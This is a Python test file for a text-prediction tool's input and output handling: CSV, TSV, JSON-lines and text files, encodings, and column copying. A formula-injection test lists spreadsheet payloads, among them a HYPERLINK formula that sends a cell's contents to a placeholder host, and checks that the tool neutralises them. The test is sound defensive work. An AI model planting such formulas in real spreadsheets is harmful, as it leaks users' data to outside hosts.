"""Tables, JSON lines and texts to predict: what is read of them, and what is written next to it."""

import csv
import gzip
import io
import json
import zipfile

import pytest
from descriptions import run_config

from keras_rnn_zoo.errors import DataError, OptionError
from keras_rnn_zoo.inference.output_files import choose_output
from keras_rnn_zoo.user_data.prediction_inputs import InputFile, InputRecord, open_inputs
from keras_rnn_zoo.user_data.prediction_outputs import SeparatedRows, json_line
from keras_rnn_zoo.user_data.rows import BadRow

BINARY = {"label": "good", "probabilities": [0.25, 0.75]}


def config(name="csv:train.csv", task="classification", encoding="", **columns):
    """Returns what a run says of the data it was trained on."""
    options = {"encoding": encoding} if encoding else {}
    return run_config(name, task, options=options, columns=columns)


TEXT = config(text="text")


def in_file(folder, name, content):
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return str(path)


def inputs(path, run=TEXT, **options):
    return [asked.input for asked in open_inputs(path, run, **options).inputs()]


def written(path, prediction=BINARY, run=TEXT, **options):
    """Returns what is written where every input has one prediction, as bytes."""
    source, out = open_inputs(path, run, **options), io.StringIO()
    write = source.writer(out)
    for asked in source.inputs():
        assert not isinstance(asked, BadRow), asked
        write(asked, prediction)
    return out.getvalue().encode("utf-8", "surrogateescape")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_table_that_was_predicted_before_is_overwritten(delimiter, tmp_path):
    name = "a.tsv" if delimiter == "\t" else "a.csv"
    once = written(in_file(tmp_path, name, f"text{delimiter}id\nfine{delimiter}1\n"))
    assert once.decode() == "text,id,predicted_label,predicted_probability\nfine,1,good,0.75\n".replace(",", delimiter)
    again = written(in_file(tmp_path, name, once), {"label": "bad", "probabilities": [0.5, 0.5]})
    assert again == once.replace(b"good", b"bad").replace(b"0.75", b"0.5")
    other = written(in_file(tmp_path, name, once), {"value": -1.5})
    assert other.splitlines()[0] == once.splitlines()[0] + f"{delimiter}predicted_value".encode()


def test_json_lines_that_were_predicted_before_are_overwritten(tmp_path):
    once = written(in_file(tmp_path, "a.jsonl", '{"text": "fine", "id": 1}\n'))
    again = json.loads(written(in_file(tmp_path, "a.jsonl", once), {"label": "bad", "probabilities": [1, 0]}))
    assert again == {"text": "fine", "id": 1, "predicted_label": "bad", "predicted_probabilities": [1, 0]}


@pytest.mark.parametrize(
    "label",
    ['=HYPERLINK("http://a.example?"&A1,"x")', "+1+1", "-1+1", "-LRB- NN", "@SUM(1)", "\t=1+1", "\r=1", "\uff1d1+1"],
)
@pytest.mark.parametrize("name", ["a.csv", "a.tsv"])
def test_a_predicted_formula_is_a_text_to_a_spreadsheet(name, label, tmp_path):
    delimiter = "\t" if name == "a.tsv" else ","
    path = in_file(tmp_path, name, f"text{delimiter}mine\nfine{delimiter}=1+1\n")
    ((_, mine, predicted),) = list(
        csv.reader(io.StringIO(written(path, {"label": label}).decode(), newline=""), delimiter=delimiter)
    )[1:]
    assert mine == "=1+1"  # The user's own columns are copied.
    assert predicted[0] not in "=+-@\t\r\uff1d"
    assert predicted.endswith(label.strip())
    exact = json.loads(written(in_file(tmp_path, "a.jsonl", '{"text": "fine"}'), {"label": label}))
    assert exact["predicted_label"] == label


@pytest.mark.parametrize("value", [-1.5, -2, 1e-20, "-1", "+1", "-1.5e-3", "-.5"])
def test_a_predicted_number_stays_a_number(value, tmp_path):
    path = in_file(tmp_path, "a.csv", "text\nfine\n")
    assert written(path, {"value": value}).decode().splitlines()[1] == f"fine,{value}"


@pytest.mark.parametrize(
    "content",
    [
        "text\n=1+1\n",
        'text,id\n"a ""quoted"", text",1\n',
        'text,id\n"two\nlines","\r"\n',
        "text,id\nlead , \n",
        "id;text\n1,5;a\n",
    ],
)
def test_the_columns_of_a_csv_file_are_copied(content, tmp_path):
    mark = ";" if ";" in content else ","
    out = written(in_file(tmp_path, "a.csv", content), {"value": 1}).decode()
    (before, after) = (list(csv.reader(io.StringIO(text, newline=""), delimiter=mark)) for text in (content, out))
    assert [row[:-1] for row in after] == before


def test_the_columns_of_a_tsv_file_are_copied_unchanged(tmp_path):
    rows = ['a 5" pipe\tsay "no"', "a\u2028b\t'", '"""quoted"""\tx']
    out = written(in_file(tmp_path, "a.tsv", "\n".join(["text\tid", *rows]) + "\n"), {"value": 1}).decode()
    assert [line.rpartition("\t")[0] for line in out.split("\n")[1:-1]] == rows


def test_a_predicted_text_is_a_line(tmp_path):
    path = in_file(tmp_path, "a.txt", "one\r\n\r\nthree")
    assert inputs(path) == ["one", "", "three"]
    assert written(path, {"text": "a\tb\r\nc\u2028d\x85e"}).decode().splitlines() == ["a b c d e"] * 3


@pytest.mark.parametrize(
    ("name", "content", "line"),
    [
        ("a.csv", b"text,note\nfine,caf\xe9\n", b"fine,caf\xe9,good,0.75"),
        ("a.tsv", b"text\tnote\nfine\tcaf\xe9\n", b"fine\tcaf\xe9\tgood\t0.75"),
    ],
)
def test_bytes_of_unused_columns_are_copied(name, content, line, tmp_path):
    assert written(in_file(tmp_path, name, content)).splitlines()[1] == line
    bad = next(open_inputs(in_file(tmp_path, name, content.replace(b"fine", b"\xff")), TEXT).inputs())
    assert "byte 0xff" in bad.fault


def test_json_lines_are_valid_whatever_is_beside_the_text(tmp_path):
    half = "\\ud83d"
    path = in_file(
        tmp_path, "a.jsonl", b'{"text": "fine", "note": "caf\xe9 \xc3\xa9", "half": "' + half.encode() + b'"}\n'
    )
    line = written(path).decode("utf-8", "strict")
    assert "caf\N{REPLACEMENT CHARACTER} \N{LATIN SMALL LETTER E WITH ACUTE}" in line
    assert half in line


@pytest.mark.parametrize(
    ("name", "content", "column", "told"),
    [
        ("a.csv", "great film\nbad film\n", "text=1", "no column 'text'"),
        ("a.csv", "great film,1\nbad film,2\n", "text=1", "no column 'text'"),
        ("a.tsv", "1\tgreat film\n2\tbad film\n", "text=2", "no column 'text'"),
        ("a.csv", "review,id\ngreat film,1\nbad film,2\n", "text=review", "no column 'text'"),
        ("a.csv", "Text\ngreat film\nbad film\n", "text=Text", "Did you mean 'Text'"),
        ("a.jsonl", '{"body": "great film"}\n{"body": "bad film"}\n', "text=body", "no column 'text'"),
    ],
)
def test_a_table_without_the_column_of_training_is_refused_until_one_is_named(name, content, column, told, tmp_path):
    path = in_file(tmp_path, name, content)
    with pytest.raises(DataError, match=rf"{told}.*was trained on the column 'text'.*columns=\"text=1\""):
        open_inputs(path, TEXT)
    assert inputs(path, columns=column) == ["great film", "bad film"]
    assert inputs(path, columns=f"{column},label=stars") == ["great film", "bad film"]


def test_a_run_that_was_trained_on_no_table_takes_a_usual_column_and_no_other(tmp_path):
    embedded = config("toy_reviews")
    assert inputs(in_file(tmp_path, "a.csv", "id,review\n1,fine\n"), embedded) == ["fine"]
    for content in ("great film\nbad film\n", "stars\n5\n"):
        with pytest.raises(DataError, match=r"none of its columns .* columns=\"text=1\""):
            open_inputs(in_file(tmp_path, "a.csv", content), embedded)
    tfds = config("tfds:imdb", text="remark")
    assert inputs(in_file(tmp_path, "a.csv", "remark,text\nfine,x\n"), tfds) == ["fine"]
    assert inputs(in_file(tmp_path, "a.csv", "id,text\n1,fine\n"), tfds) == ["fine"]
    with pytest.raises(OptionError, match="'txt=1'"):
        open_inputs(in_file(tmp_path, "a.csv", "id,text\n1,fine\n"), tfds, columns="txt=1")


CAFE = "caf\N{LATIN SMALL LETTER E WITH ACUTE}"


@pytest.mark.parametrize(
    ("encoding", "named", "trained"),
    [
        ("cp1252", "", "cp1252"),
        ("cp1252", "cp1252", ""),
        ("cp1252", "cp1252", "shift_jis"),
        ("utf-8", "", "cp1252"),
        ("utf-8", "utf-8", "cp1252"),
        ("utf-8-sig", "", "cp1252"),
        ("utf-8-sig", "", ""),
        ("utf-16", "", "cp1252"),
        ("utf-16", "utf-16", ""),
        ("utf-16-le", "", "utf-16-le"),
    ],
)
@pytest.mark.parametrize("name", ["a.csv", "a.txt", "a.jsonl"])
def test_texts_are_read_in_the_encoding_named_marked_or_trained_on(name, encoding, named, trained, tmp_path):
    content = {"a.csv": f"text\n{CAFE}\n", "a.txt": f"{CAFE}\n", "a.jsonl": f'{{"text": "{CAFE}"}}\n'}[name]
    path = in_file(tmp_path, name, content.encode(encoding))
    assert inputs(path, config(text="text", encoding=trained), encoding=named) == [CAFE]
    assert CAFE.encode() in written(path, {"label": CAFE}, config(text="text", encoding=trained), encoding=named)


def test_utf_16_is_read_in_the_byte_order_of_its_mark(tmp_path):
    path = in_file(tmp_path, "a.txt", b"\xfe\xff" + f"{CAFE}\n".encode("utf-16-be"))
    assert inputs(path) == inputs(path, encoding="utf-16") == [CAFE]


def test_codecs_that_do_not_encode_texts_are_refused(tmp_path):
    with pytest.raises(OptionError, match="'zlib' is not an encoding of text files"):
        open_inputs(in_file(tmp_path, "a.txt", "a\n"), TEXT, encoding="zlib")


def test_a_line_of_json_holds_only_valid_numbers():
    record = json.loads('{"text": "NaN", "large": 1e999, "inner": [{"value": NaN}], "small": 0.5}')
    line = json_line(record, {"label": "a"})
    assert json.loads(line, parse_constant=pytest.fail) == {
        "text": "NaN",
        "large": None,
        "inner": [{"value": None}],
        "small": 0.5,
        "predicted_label": "a",
    }


@pytest.mark.parametrize("name", ["a.xlsx.gz", "a.npz.gz"])
def test_archives_are_compressed_as_a_whole(name, tmp_path):
    source = InputFile("a.csv", lambda: iter(()), None, cells=lambda record: {"number": record.record})
    with choose_output(source, str(tmp_path / name), None, probabilities=False).opened() as write:
        write(InputRecord("a", 1), {"label": "b"})
    with gzip.open(tmp_path / name) as file, zipfile.ZipFile(file) as archive:
        assert archive.testzip() is None


def test_a_boolean_is_written_as_pandas_writes_it():
    file = io.StringIO()
    SeparatedRows(file).write({"text": "a", "new": True, "tags": ["b"]}, {"label": "x"})
    assert file.getvalue() == 'text,new,tags,predicted_label\na,True,"[""b""]",x\n'
